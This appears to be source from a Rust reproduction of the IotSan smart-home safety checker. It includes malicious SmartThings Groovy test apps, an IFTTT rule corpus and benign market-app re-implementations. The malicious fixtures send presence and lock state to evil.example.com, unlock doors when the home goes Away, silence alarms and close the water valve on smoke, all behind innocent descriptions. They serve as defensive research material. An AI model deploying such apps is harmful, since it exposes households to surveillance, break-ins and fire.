def coHandler(evt) {
    sendEvent(name: "carbonMonoxide", value: "detected")
    unsubscribe()
}
"#;

/// Reports the family's presence status to an external server.
pub const LEAKY_PRESENCE: &str = r#"
definition(name: "Leaky Presence", namespace: "evil", author: "mallory",
    description: "Presence analytics for your household.")
preferences {
    section("Presence sensors") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() {
    subscribe(people, "presence", presenceHandler)
}
def presenceHandler(evt) {
    httpPost("http://evil.example.com/track", evt.value)
}
"#;

/// Sends door lock state (and SMS to an attacker-controlled number) on every
/// lock event.
pub const LEAKY_LOCK_CODES: &str = r#"
definition(name: "Leaky Lock Codes", namespace: "evil", author: "mallory",
    description: "Lock usage statistics.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(lock1, "lock", lockHandler)
}
def lockHandler(evt) {
    httpPost("http://evil.example.com/locks", evt.value)
    sendSms("19998887777", "lock state: ${evt.value}")
}
"#;

/// Shuts the main water valve whenever smoke is detected — the fire-sprinkler
/// sabotage described in the paper (§10.3).
pub const WATER_VALVE_SABOTEUR: &str = r#"
definition(name: "Water Valve Saboteur", namespace: "evil", author: "mallory",
    description: "Protect your home from water damage during emergencies.")
preferences {
    section("Smoke detector") { input "smokeSensor", "capability.smokeDetector" }
    section("Water valve") { input "valve1", "capability.valve" }
}
def installed() {
    subscribe(smokeSensor, "smoke.detected", smokeHandler)
}
def smokeHandler(evt) {
    valve1.close()
}
"#;

/// Unlocks the main door as soon as the home switches to Away mode.
pub const AWAY_MODE_UNLOCKER: &str = r#"
definition(name: "Away Mode Unlocker", namespace: "evil", author: "mallory",
    description: "Let trusted visitors in while you are away.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(location, "mode", modeHandler)
}
def modeHandler(evt) {
    if (evt.value == "Away") {
        lock1.unlock()
    }
}
"#;

/// Turns the siren off whenever it starts sounding.
pub const ALARM_SILENCER: &str = r#"
definition(name: "Alarm Silencer", namespace: "evil", author: "mallory",
    description: "Avoid annoying false alarms.")
preferences {
    section("Alarm") { input "alarm1", "capability.alarm" }
    section("Smoke detector") { input "smokeSensor", "capability.smokeDetector" }
}
def installed() {
    subscribe(alarm1, "alarm", alarmHandler)
    subscribe(smokeSensor, "smoke.detected", smokeHandler)
}
def alarmHandler(evt) {
    if (evt.value != "off") {
        alarm1.off()
    }
}
def smokeHandler(evt) {
    alarm1.off()
}
"#;

/// Turns the heater on when the temperature is already high.
pub const MIDNIGHT_HEATER: &str = r#"
definition(name: "Midnight Heater", namespace: "evil", author: "mallory",
    description: "Keep your home cosy.")
preferences {
    section("Temperature sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Heater outlet") { input "heaterOutlet", "capability.switch" }
}
def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
}
def temperatureHandler(evt) {
    if (evt.doubleValue > 85) {
        heaterOutlet.on()
    }
}
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_groovy::SmartApp;
    use iotsan_ir::lower_app;

    #[test]
    fn there_are_nine_malicious_apps() {
        assert_eq!(malicious_apps().len(), 9);
    }

    #[test]
    fn every_malicious_app_parses_and_lowers() {
        for entry in malicious_apps() {
            let parsed = SmartApp::parse(&entry.app.source)
                .unwrap_or_else(|e| panic!("{} failed to parse: {e}", entry.app.name));
            let ir = lower_app(&parsed).unwrap();
            assert!(!ir.handlers.is_empty());
        }
    }

    #[test]
    fn malicious_behaviours_are_present_in_ir() {
        let by_name = |name: &str| {
            let entry = malicious_apps().into_iter().find(|a| a.app.name == name).unwrap();
            lower_app(&SmartApp::parse(&entry.app.source).unwrap()).unwrap()
        };
        assert!(by_name("Fake Smoke Detector").handlers[0].uses_sensitive_command());
        assert!(by_name("Fake CO Alarm").handlers[0].uses_sensitive_command());
        assert!(by_name("Leaky Presence").handlers[0].uses_network());
        assert!(by_name("Leaky Lock Codes").handlers[0].uses_network());
        assert!(by_name("Water Valve Saboteur").handlers[0]
            .device_commands()
            .contains(&("valve1".to_string(), "close".to_string())));
        assert!(by_name("Backdoor Pin Code").handlers[0]
            .device_commands()
            .contains(&("lock1".to_string(), "unlock".to_string())));
    }
}
