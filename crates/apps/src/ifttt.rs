//! The IFTTT frontend (§11, "Application to other IoT Platforms").
//!
//! An IFTTT applet has a *trigger service* (This) and an *action service*
//! (That).  The paper fetches published applets as JSON, maps 8 popular IoT
//! services onto sensor/actuator device models and translates each rule into
//! an app with a single event handler.  This module does the same: a JSON
//! applet corpus (the 10 rules of Table 9), a serde model, and a translation
//! into [`IrApp`]s that the rest of the pipeline consumes unchanged.

use iotsan_ir::{AppInput, IrApp, IrHandler, IrStmt, SettingKind, Trigger};
use serde::{Deserialize, Serialize};

/// One IFTTT applet (rule).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct IftttApplet {
    /// Rule identifier (e.g. `rule #1`).
    pub id: String,
    /// Human-readable title.
    pub title: String,
    /// The trigger service (This).
    pub trigger: IftttTrigger,
    /// The action service (That).
    pub action: IftttAction,
}

/// The trigger half of a rule.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct IftttTrigger {
    /// Service name (e.g. `SmartThings`, `Amazon Alexa`, `Ring`).
    pub service: String,
    /// Device capability the trigger maps onto (e.g. `motionSensor`).
    pub capability: String,
    /// Attribute of interest.
    pub attribute: String,
    /// Triggering value, or empty for any value.
    #[serde(default)]
    pub value: String,
}

/// The action half of a rule.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct IftttAction {
    /// Service name (e.g. `SmartThings`, `Nest Thermostat`, `Phone Call`).
    pub service: String,
    /// Device capability the action maps onto (e.g. `alarm`, `lock`);
    /// message-style actions use the pseudo-capability `notification`.
    pub capability: String,
    /// Command to execute (e.g. `siren`, `unlock`, `call`).
    pub command: String,
}

/// The embedded corpus of the 10 rules used in Table 9.
pub const IFTTT_RULES_JSON: &str = r#"[
  {"id": "rule #1", "title": "If motion is detected, turn the porch light on",
   "trigger": {"service": "SmartThings", "capability": "motionSensor", "attribute": "motion", "value": "active"},
   "action": {"service": "SmartThings", "capability": "switch", "command": "on"}},
  {"id": "rule #2", "title": "If the front door opens, sound the siren",
   "trigger": {"service": "SmartThings", "capability": "contactSensor", "attribute": "contact", "value": "open"},
   "action": {"service": "SmartThings", "capability": "alarm", "command": "both"}},
  {"id": "rule #3", "title": "If motion is detected, start recording on the camera",
   "trigger": {"service": "Ring", "capability": "motionSensor", "attribute": "motion", "value": "active"},
   "action": {"service": "Ring", "capability": "imageCapture", "command": "take"}},
  {"id": "rule #4", "title": "If I tell Alexa good night, turn the siren off",
   "trigger": {"service": "Amazon Alexa", "capability": "button", "attribute": "button", "value": "pushed"},
   "action": {"service": "SmartThings", "capability": "alarm", "command": "off"}},
  {"id": "rule #5", "title": "If my phone connects to home WiFi, unlock the front door",
   "trigger": {"service": "Android Device", "capability": "presenceSensor", "attribute": "presence", "value": "present"},
   "action": {"service": "SmartThings", "capability": "lock", "command": "unlock"}},
  {"id": "rule #6", "title": "If I tell Google Assistant to open up, unlock the door",
   "trigger": {"service": "Google Assistant", "capability": "button", "attribute": "button", "value": "pushed"},
   "action": {"service": "SmartThings", "capability": "lock", "command": "unlock"}},
  {"id": "rule #7", "title": "If the smoke alarm triggers, call my phone",
   "trigger": {"service": "Nest Protect", "capability": "smokeDetector", "attribute": "smoke", "value": "detected"},
   "action": {"service": "Phone Call", "capability": "notification", "command": "call"}},
  {"id": "rule #8", "title": "If water is detected, call my phone",
   "trigger": {"service": "SmartThings", "capability": "waterSensor", "attribute": "water", "value": "wet"},
   "action": {"service": "Phone Call", "capability": "notification", "command": "call"}},
  {"id": "rule #9", "title": "If the temperature rises above the setpoint, set the thermostat to cool",
   "trigger": {"service": "SmartThings", "capability": "temperatureMeasurement", "attribute": "temperature", "value": "85"},
   "action": {"service": "Nest Thermostat", "capability": "thermostat", "command": "cool"}},
  {"id": "rule #10", "title": "If the alarm sounds, flash the living room lights",
   "trigger": {"service": "SmartThings", "capability": "alarm", "attribute": "alarm", "value": "both"},
   "action": {"service": "SmartThings", "capability": "switch", "command": "on"}}
]"#;

/// Parses an applet corpus from JSON.
pub fn parse_applets(json: &str) -> Result<Vec<IftttApplet>, serde_json::Error> {
    serde_json::from_str(json)
}

/// The built-in 10-rule corpus.
pub fn ifttt_rules() -> Vec<IftttApplet> {
    parse_applets(IFTTT_RULES_JSON).expect("embedded IFTTT corpus is valid JSON")
}

/// Translates one applet into an [`IrApp`] with a single event handler, as
/// described in §11: the subscribed device and the controlled device become
/// inputs, and the handler body is the single expected command.
pub fn translate_applet(applet: &IftttApplet) -> IrApp {
    let trigger_input = "triggerDevice".to_string();
    let action_input = "actionDevice".to_string();
    let mut inputs = vec![AppInput {
        name: trigger_input.clone(),
        kind: SettingKind::Device {
            capability: applet.trigger.capability.clone(),
            multiple: false,
        },
        title: applet.trigger.service.clone(),
        required: true,
    }];
    let body = if applet.action.capability == "notification" {
        vec![IrStmt::SendPush { message: iotsan_ir::IrExpr::str(applet.title.clone()) }]
    } else {
        inputs.push(AppInput {
            name: action_input.clone(),
            kind: SettingKind::Device {
                capability: applet.action.capability.clone(),
                multiple: false,
            },
            title: applet.action.service.clone(),
            required: true,
        });
        vec![IrStmt::DeviceCommand {
            input: action_input,
            command: applet.action.command.clone(),
            args: vec![],
        }]
    };
    IrApp {
        name: format!("IFTTT {}", applet.id),
        description: applet.title.clone(),
        inputs,
        handlers: vec![IrHandler {
            app: format!("IFTTT {}", applet.id),
            name: "rule".into(),
            trigger: Trigger::Device {
                input: trigger_input,
                attribute: applet.trigger.attribute.clone(),
                value: if applet.trigger.value.is_empty() {
                    None
                } else {
                    Some(applet.trigger.value.clone())
                },
            },
            body,
        }],
        state_vars: vec![],
        dynamic_discovery: false,
    }
}

/// Translates the whole corpus.
pub fn translate_rules(applets: &[IftttApplet]) -> Vec<IrApp> {
    applets.iter().map(translate_applet).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_parses_with_ten_rules() {
        let rules = ifttt_rules();
        assert_eq!(rules.len(), 10);
        assert_eq!(rules[0].id, "rule #1");
        // Round trip through serde.
        let json = serde_json::to_string(&rules).unwrap();
        assert_eq!(parse_applets(&json).unwrap(), rules);
    }

    #[test]
    fn services_cover_eight_distinct_names() {
        let rules = ifttt_rules();
        let services: std::collections::BTreeSet<&str> = rules
            .iter()
            .flat_map(|r| [r.trigger.service.as_str(), r.action.service.as_str()])
            .collect();
        assert!(services.len() >= 8, "only {} services modelled", services.len());
    }

    #[test]
    fn translation_produces_single_handler_apps() {
        let apps = translate_rules(&ifttt_rules());
        assert_eq!(apps.len(), 10);
        for app in &apps {
            assert_eq!(app.handlers.len(), 1);
            assert!(!app.inputs.is_empty());
        }
        // Rule #5 unlocks a lock on presence.
        let rule5 = apps.iter().find(|a| a.name == "IFTTT rule #5").unwrap();
        assert_eq!(
            rule5.handlers[0].device_commands(),
            vec![("actionDevice".to_string(), "unlock".to_string())]
        );
        // Rule #7 is a notification action with no actuator input.
        let rule7 = apps.iter().find(|a| a.name == "IFTTT rule #7").unwrap();
        assert_eq!(rule7.inputs.len(), 1);
        assert!(rule7.handlers[0].device_commands().is_empty());
    }

    #[test]
    fn malformed_json_is_rejected() {
        assert!(parse_applets("{not json").is_err());
    }
}
