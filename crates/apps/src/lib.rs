//! # iotsan-apps
//!
//! The smart-app corpus used by IotSan-rs's evaluation (the Rust reproduction
//! of *IotSan: Fortifying the Safety of IoT Systems*, CoNEXT 2018, §10).
//!
//! * [`market`] — the 150-app market corpus: faithful re-implementations of
//!   every app the paper names (Virtual Thermostat, Unlock Door, Good Night,
//!   Make It So, ...) plus deterministic market-style generated apps, split
//!   into the six 25-app experimental groups;
//! * [`malicious`] — the nine ContexIoT-style malicious apps used for the
//!   attribution evaluation (§10.3);
//! * [`ifttt`] — the 10-rule IFTTT applet corpus and the IFTTT→IR translator
//!   (§11, Table 9);
//! * [`samples`] — the canonical app groups behind Figure 4, Figure 8,
//!   Table 7b and Table 8.
//!
//! All market and malicious apps are plain Groovy sources, exercised through
//! the real frontend (`iotsan-groovy`) and translator (`iotsan-ir`).

#![warn(missing_docs)]

pub mod ifttt;
pub mod malicious;
pub mod market;
pub mod samples;

pub use ifttt::{ifttt_rules, parse_applets, translate_applet, translate_rules, IftttApplet};
pub use malicious::{malicious_apps, MaliciousApp};
pub use market::{market_apps, named_apps, six_groups, MarketApp};
