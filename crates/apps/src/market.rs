//! The market-app corpus.
//!
//! The paper evaluates IotSan on 150 smart apps from the SmartThings market
//! place (§10.1).  Those apps are closed-source snapshots of a 2018 app store;
//! this module provides (a) faithful re-implementations of every app the paper
//! names — the apps driving the reported violations — and (b) a deterministic
//! generator of market-style apps (simple trigger → action automations over
//! varied capabilities) that fills the corpus out to 150 apps, matching the
//! six-group / 25-apps-per-group experimental setup.

/// A market app: its display name and Groovy source.
#[derive(Debug, Clone, PartialEq)]
pub struct MarketApp {
    /// Display name (matches the `definition(name: ...)` inside the source).
    pub name: String,
    /// Groovy source code.
    pub source: String,
}

impl MarketApp {
    fn new(name: &str, source: &str) -> Self {
        MarketApp { name: name.to_string(), source: source.to_string() }
    }
}

/// Hand-written versions of the apps the paper names explicitly.
pub fn named_apps() -> Vec<MarketApp> {
    vec![
        MarketApp::new("Virtual Thermostat", VIRTUAL_THERMOSTAT),
        MarketApp::new("Brighten Dark Places", BRIGHTEN_DARK_PLACES),
        MarketApp::new("Let There Be Dark!", LET_THERE_BE_DARK),
        MarketApp::new("Auto Mode Change", AUTO_MODE_CHANGE),
        MarketApp::new("Unlock Door", UNLOCK_DOOR),
        MarketApp::new("Big Turn On", BIG_TURN_ON),
        MarketApp::new("Good Night", GOOD_NIGHT),
        MarketApp::new("Light Follows Me", LIGHT_FOLLOWS_ME),
        MarketApp::new("Light Off When Close", LIGHT_OFF_WHEN_CLOSE),
        MarketApp::new("Make It So", MAKE_IT_SO),
        MarketApp::new("Darken Behind Me", DARKEN_BEHIND_ME),
        MarketApp::new("Energy Saver", ENERGY_SAVER),
        MarketApp::new("Automated Light", AUTOMATED_LIGHT),
        MarketApp::new("Brighten My Path", BRIGHTEN_MY_PATH),
        MarketApp::new("It's Too Cold", ITS_TOO_COLD),
        MarketApp::new("Smoke Alarm Siren", SMOKE_ALARM_SIREN),
        MarketApp::new("Lock It When I Leave", LOCK_IT_WHEN_I_LEAVE),
        MarketApp::new("Flood Alert", FLOOD_ALERT),
        MarketApp::new("CO Alert", CO_ALERT),
        MarketApp::new("Sprinkler When Dry", SPRINKLER_WHEN_DRY),
        MarketApp::new("Good Morning Coffee", GOOD_MORNING_COFFEE),
        MarketApp::new("Camera On Intrusion", CAMERA_ON_INTRUSION),
        MarketApp::new("Curling Iron", CURLING_IRON),
        MarketApp::new("Undead Early Warning", UNDEAD_EARLY_WARNING),
        MarketApp::new("Big Turn Off", BIG_TURN_OFF),
    ]
}

/// The full 150-app market corpus: the named apps plus generated
/// market-style automations.
pub fn market_apps() -> Vec<MarketApp> {
    let mut apps = named_apps();
    let mut index = 0usize;
    while apps.len() < 150 {
        apps.push(generated_app(index));
        index += 1;
    }
    apps
}

/// The six experimental groups of 25 apps each (Table 5 / Table 7a setup).
/// The split is deterministic: apps are dealt round-robin so every group mixes
/// named and generated apps.
pub fn six_groups() -> Vec<Vec<MarketApp>> {
    let apps = market_apps();
    let mut groups: Vec<Vec<MarketApp>> = vec![Vec::new(); 6];
    for (i, app) in apps.into_iter().enumerate() {
        groups[i % 6].push(app);
    }
    groups
}

/// A deterministic market-style generated app.  The templates rotate over
/// common trigger → action automations so generated apps interact with the
/// same device families the named apps use.
pub fn generated_app(index: usize) -> MarketApp {
    let template = index % 10;
    let variant = index / 10;
    let name = format!("{} #{variant}", TEMPLATE_NAMES[template]);
    let source = match template {
        0 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Turn on a switch when motion is detected.")
preferences {{
    section("When motion...") {{ input "motionSensor", "capability.motionSensor" }}
    section("Turn on...") {{ input "targetSwitch", "capability.switch" }}
}}
def installed() {{ subscribe(motionSensor, "motion.active", motionHandler) }}
def motionHandler(evt) {{ targetSwitch.on() }}
"#
        ),
        1 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Turn off a switch when motion stops.")
preferences {{
    section("When motion stops...") {{ input "motionSensor", "capability.motionSensor" }}
    section("Turn off...") {{ input "targetSwitch", "capability.switch" }}
}}
def installed() {{ subscribe(motionSensor, "motion.inactive", motionStopHandler) }}
def motionStopHandler(evt) {{ targetSwitch.off() }}
"#
        ),
        2 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Turn on lights when a door opens.")
preferences {{
    section("When the door opens...") {{ input "contact1", "capability.contactSensor" }}
    section("Turn on...") {{ input "lights", "capability.switch", multiple: true }}
}}
def installed() {{ subscribe(contact1, "contact.open", openHandler) }}
def openHandler(evt) {{ lights.on() }}
"#
        ),
        3 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Notify when a door is left open.")
preferences {{
    section("Watch this door") {{ input "contact1", "capability.contactSensor" }}
    section("Phone") {{ input "phone", "phone", required: false }}
}}
def installed() {{ subscribe(contact1, "contact.open", openHandler) }}
def openHandler(evt) {{
    sendPush("The door is open")
    if (phone) {{
        sendSms(phone, "The door is open")
    }}
}}
"#
        ),
        4 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Lock the door when everyone leaves.")
preferences {{
    section("Presence") {{ input "people", "capability.presenceSensor", multiple: true }}
    section("Lock") {{ input "lock1", "capability.lock" }}
}}
def installed() {{ subscribe(people, "presence.not present", leftHandler) }}
def leftHandler(evt) {{
    if (people.every {{ it.currentPresence == "not present" }}) {{
        lock1.lock()
    }}
}}
"#
        ),
        5 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Turn the heater on when it is cold.")
preferences {{
    section("Sensor") {{ input "sensor", "capability.temperatureMeasurement" }}
    section("Heater outlet") {{ input "heaterOutlet", "capability.switch" }}
    section("Threshold") {{ input "threshold", "decimal" }}
}}
def installed() {{ subscribe(sensor, "temperature", tempHandler) }}
def tempHandler(evt) {{
    if (evt.doubleValue < threshold) {{
        heaterOutlet.on()
    }} else {{
        heaterOutlet.off()
    }}
}}
"#
        ),
        6 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Close the valve when a leak is detected.")
preferences {{
    section("Leak sensor") {{ input "leakSensor", "capability.waterSensor" }}
    section("Valve") {{ input "valve1", "capability.valve" }}
}}
def installed() {{ subscribe(leakSensor, "water.wet", leakHandler) }}
def leakHandler(evt) {{
    valve1.close()
    sendPush("Leak detected, water valve closed")
}}
"#
        ),
        7 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Sound the alarm when smoke is detected.")
preferences {{
    section("Smoke detector") {{ input "smokeSensor", "capability.smokeDetector" }}
    section("Alarm") {{ input "alarm1", "capability.alarm" }}
}}
def installed() {{ subscribe(smokeSensor, "smoke.detected", smokeHandler) }}
def smokeHandler(evt) {{ alarm1.both() }}
"#
        ),
        8 => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Change mode when everyone is asleep.")
preferences {{
    section("Sleep sensors") {{ input "sleepers", "capability.sleepSensor", multiple: true }}
}}
def installed() {{ subscribe(sleepers, "sleeping.sleeping", sleepHandler) }}
def sleepHandler(evt) {{ setLocationMode("Night") }}
"#
        ),
        _ => format!(
            r#"
definition(name: "{name}", namespace: "gen", author: "gen", description: "Dim the lights when the sun rises.")
preferences {{
    section("Dimmer") {{ input "dimmer1", "capability.switchLevel" }}
}}
def installed() {{ subscribe(location, "sunrise", sunriseHandler) }}
def sunriseHandler(evt) {{ dimmer1.setLevel(10) }}
"#
        ),
    };
    MarketApp { name, source }
}

const TEMPLATE_NAMES: [&str; 10] = [
    "Motion Light",
    "Motion Off",
    "Door Light",
    "Door Alert",
    "Auto Lock",
    "Simple Heater",
    "Leak Shutoff",
    "Smoke Siren",
    "Sleep Mode",
    "Sunrise Dimmer",
];

// ---------------------------------------------------------------------------
// Hand-written named apps (Groovy).
// ---------------------------------------------------------------------------

/// Figure 1 of the paper: Virtual Thermostat.
pub const VIRTUAL_THERMOSTAT: &str = r#"
definition(
    name: "Virtual Thermostat",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Control a space heater or window air conditioner in conjunction with any temperature sensor, like a SmartSense Multi."
)
preferences {
    section("Choose a temperature sensor ... ") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Select the heater or air conditioner outlet(s)... ") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("Set the desired temperature ...") {
        input "setpoint", "decimal", title: "Set Temp"
    }
    section("When there's been movement from (optional)") {
        input "motion", "capability.motionSensor", title: "Motion", required: false
    }
    section("Within this number of minutes ...") {
        input "minutes", "number", title: "Minutes", required: false
    }
    section("But never go below (or above if A/C) this value with or without motion ...") {
        input "emergencySetpoint", "decimal", title: "Emer Temp", required: false
    }
    section("Select 'heat' for a heater and 'cool' for an air conditioner ...") {
        input "mode", "enum", title: "Heating or cooling?", options: ["heat", "cool"]
    }
}
def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
    if (motion) {
        subscribe(motion, "motion", motionHandler)
    }
}
def updated() {
    unsubscribe()
    installed()
}
def temperatureHandler(evt) {
    def currentTemp = evt.doubleValue
    if (mode == "cool") {
        if (currentTemp > setpoint) {
            outlets.on()
        } else {
            outlets.off()
        }
    } else {
        if (currentTemp < setpoint) {
            outlets.on()
        } else {
            outlets.off()
        }
    }
}
def motionHandler(evt) {
    if (evt.value == "inactive") {
        runIn((minutes ?: 10) * 60, turnOffAfterIdle)
    }
}
def turnOffAfterIdle() {
    outlets.off()
}
"#;

/// Table 2 vertex 0: turn on lights when a door opens and it is dark.
pub const BRIGHTEN_DARK_PLACES: &str = r#"
definition(name: "Brighten Dark Places", namespace: "smartthings", author: "SmartThings",
    description: "Turn your lights on when an open/close sensor opens and the space is dark.")
preferences {
    section("When the door opens...") { input "contact1", "capability.contactSensor", title: "Where?" }
    section("And it's dark...") { input "luminance1", "capability.illuminanceMeasurement", title: "Where?" }
    section("Turn on a light...") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(contact1, "contact.open", contactOpenHandler)
}
def contactOpenHandler(evt) {
    if (luminance1.currentIlluminance < 30) {
        switches.on()
    }
}
"#;

/// Table 2 vertex 1: mirror a contact sensor onto switches — opening the
/// door "lets the dark in" (lights off), closing it turns them back on.
/// Paired with Brighten Dark Places this produces the conflicting `on`/`off`
/// commands of Table 5.
pub const LET_THERE_BE_DARK: &str = r#"
definition(name: "Let There Be Dark!", namespace: "smartthings", author: "SmartThings",
    description: "Turn your lights off when an open/close sensor opens and on when it closes.")
preferences {
    section("Monitor this door or window") { input "contact1", "capability.contactSensor" }
    section("Turn off/on light(s)") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(contact1, "contact", contactHandler)
}
def contactHandler(evt) {
    if (evt.value == "open") {
        switches.off()
    } else {
        switches.on()
    }
}
"#;

/// Table 2 vertex 2: change the location mode based on presence.
pub const AUTO_MODE_CHANGE: &str = r#"
definition(name: "Auto Mode Change", namespace: "smartthings", author: "SmartThings",
    description: "Change the location mode when people arrive or leave.")
preferences {
    section("Presence sensors") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() {
    subscribe(people, "presence", presenceHandler)
}
def presenceHandler(evt) {
    if (evt.value == "not present") {
        if (people.every { it.currentPresence == "not present" }) {
            setLocationMode("Away")
        }
    } else {
        setLocationMode("Home")
    }
}
"#;

/// Table 2 vertices 3 and 4: unlock the door on app touch or mode change.
/// The description only mentions user input, but the implementation also
/// reacts to mode changes — the inconsistency §8's example highlights.
pub const UNLOCK_DOOR: &str = r#"
definition(name: "Unlock Door", namespace: "smartthings", author: "SmartThings",
    description: "Unlock the door when you tap the app.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) {
    lock1.unlock()
}
def changedLocationMode(evt) {
    lock1.unlock()
}
"#;

/// Table 2 vertices 5 and 6: turn everything on, on touch or mode change.
pub const BIG_TURN_ON: &str = r#"
definition(name: "Big Turn On", namespace: "smartthings", author: "SmartThings",
    description: "Turn your lights on when the SmartApp is tapped or activated by mode change.")
preferences {
    section("Turn on...") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) {
    switches.on()
}
def changedLocationMode(evt) {
    switches.on()
}
"#;

/// Figure 8a: switch to Night mode when the lights go off at night.
pub const GOOD_NIGHT: &str = r#"
definition(name: "Good Night", namespace: "smartthings", author: "SmartThings",
    description: "Change the mode to Night when lights are switched off and there has been no motion.")
preferences {
    section("Lights to watch") { input "switches", "capability.switch", multiple: true }
    section("Motion sensor (optional)") { input "motionSensor", "capability.motionSensor", required: false }
}
def installed() {
    subscribe(switches, "switch.off", switchOffHandler)
}
def switchOffHandler(evt) {
    if (switches.every { it.currentSwitch == "off" }) {
        setLocationMode("Night")
    }
}
"#;

/// Figure 8a: turn lights on with motion and off when motion stops.
pub const LIGHT_FOLLOWS_ME: &str = r#"
definition(name: "Light Follows Me", namespace: "smartthings", author: "SmartThings",
    description: "Turn your lights on when motion is detected and off when motion stops.")
preferences {
    section("Turn on when there's movement..") { input "motionSensor", "capability.motionSensor" }
    section("And off when there's been no movement for..") { input "minutes1", "number", title: "Minutes?" }
    section("Turn on/off light(s)..") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(motionSensor, "motion", motionHandler)
}
def motionHandler(evt) {
    if (evt.value == "active") {
        switches.on()
    } else {
        switches.off()
    }
}
"#;

/// Figure 8a: turn a light off when a door closes.
pub const LIGHT_OFF_WHEN_CLOSE: &str = r#"
definition(name: "Light Off When Close", namespace: "smartthings", author: "SmartThings",
    description: "Turn lights off when a contact sensor closes.")
preferences {
    section("When the door closes") { input "contact1", "capability.contactSensor" }
    section("Turn off") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(contact1, "contact.closed", contactClosedHandler)
}
def contactClosedHandler(evt) {
    switches.off()
}
"#;

/// Figure 8b: lock up and arm the house when everyone has left.
pub const MAKE_IT_SO: &str = r#"
definition(name: "Make It So", namespace: "smartthings", author: "SmartThings",
    description: "Lock the doors and change the mode when motion stops and nobody is home.")
preferences {
    section("Motion sensor") { input "motionSensor", "capability.motionSensor" }
    section("Locks") { input "locks", "capability.lock", multiple: true }
    section("Alarm") { input "alarm1", "capability.alarm", required: false }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() {
    subscribe(motionSensor, "motion.inactive", motionStoppedHandler)
    subscribe(motionSensor, "motion.active", intrusionHandler)
}
def motionStoppedHandler(evt) {
    locks.lock()
    setLocationMode("Away")
}
def intrusionHandler(evt) {
    if (location.mode == "Away") {
        if (alarm1) {
            alarm1.both()
        }
        if (phone) {
            sendSms(phone, "Intruder detected at home")
        }
        sendPush("Intruder detected at home")
    }
}
"#;

/// Figure 8b: turn lights off behind you when motion stops.
pub const DARKEN_BEHIND_ME: &str = r#"
definition(name: "Darken Behind Me", namespace: "smartthings", author: "SmartThings",
    description: "Turn your lights off after motion stops.")
preferences {
    section("Turn off when there's no movement..") { input "motionSensor", "capability.motionSensor" }
    section("Turn off light(s)..") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(motionSensor, "motion.inactive", motionStoppedHandler)
}
def motionStoppedHandler(evt) {
    switches.off()
}
"#;

/// Table 5: turns the heater off at night to save energy (violating the
/// "heater on when cold" property).
pub const ENERGY_SAVER: &str = r#"
definition(name: "Energy Saver", namespace: "smartthings", author: "SmartThings",
    description: "Turn things off at night to save energy.")
preferences {
    section("Turn off these devices") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(location, "mode", modeHandler)
}
def modeHandler(evt) {
    if (evt.value == "Night") {
        switches.off()
    }
}
"#;

/// Table 5: turns a light on with motion (paired with Brighten My Path it
/// produces repeated "on" commands).
pub const AUTOMATED_LIGHT: &str = r#"
definition(name: "Automated Light", namespace: "smartthings", author: "SmartThings",
    description: "Turn a light on when motion is detected.")
preferences {
    section("Motion") { input "motionSensor", "capability.motionSensor" }
    section("Light") { input "lights", "capability.switch", multiple: true }
}
def installed() {
    subscribe(motionSensor, "motion.active", motionActiveHandler)
}
def motionActiveHandler(evt) {
    lights.on()
}
"#;

/// Table 5: brighten the path when motion is detected.
pub const BRIGHTEN_MY_PATH: &str = r#"
definition(name: "Brighten My Path", namespace: "smartthings", author: "SmartThings",
    description: "Turn your lights on when motion is detected.")
preferences {
    section("When there's movement...") { input "motionSensor", "capability.motionSensor" }
    section("Turn on...") { input "lights", "capability.switch", multiple: true }
}
def installed() {
    subscribe(motionSensor, "motion.active", motionActiveHandler)
}
def motionActiveHandler(evt) {
    lights.on()
}
"#;

/// §10.1's good group: turn the heater on when it is too cold.
pub const ITS_TOO_COLD: &str = r#"
definition(name: "It's Too Cold", namespace: "smartthings", author: "SmartThings",
    description: "Monitor the temperature and turn on a heater when it drops below a threshold.")
preferences {
    section("Monitor the temperature...") { input "temperatureSensor", "capability.temperatureMeasurement" }
    section("When the temperature drops below...") { input "temperature1", "number", title: "Temperature?" }
    section("Turn on a heater...") { input "heaterOutlet", "capability.switch", required: false }
    section("Send this message (optional)") { input "phone", "phone", required: false }
}
def installed() {
    subscribe(temperatureSensor, "temperature", temperatureHandler)
}
def temperatureHandler(evt) {
